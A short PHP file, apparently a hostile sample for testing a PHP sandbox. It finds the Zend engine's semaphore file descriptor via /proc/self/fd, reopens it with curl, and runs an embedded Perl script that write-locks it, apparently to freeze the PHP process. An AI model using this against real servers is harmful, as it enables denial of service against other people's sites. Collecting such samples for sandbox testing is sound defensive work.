<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

/** Opened anew by curl, which looks up no path, the file is handed on to a program that can lock it. */
const LOCK = <<<'PERL'
use Fcntl;
for my $number (3 .. 200) {
	next unless (readlink("/proc/self/fd/$number") // '') =~ /ZendSem/;
	open(my $file, '>&=', $number) or next;
	my $lock = pack('s s x4 q q i x4', F_WRLCK, 0, 0, 1, 0);
	print "locked\n" if fcntl($file, F_SETLK, $lock);
}
PERL;

foreach (scandir('/proc/self/fd') as $number) {
	if (!str_contains((string) readlink("/proc/self/fd/$number"), 'ZendSem')) {
		continue;
	}
	$curl = curl_init("file:///proc/self/fd/$number");
	curl_setopt_array($curl, [
		CURLOPT_UPLOAD => true,
		CURLOPT_INFILESIZE => 1,
		CURLOPT_READFUNCTION => static function (): string {
			echo program(['perl', '-e', LOCK]);
			return '';
		},
	]);
	curl_exec($curl);
	echo curl_error($curl);
}
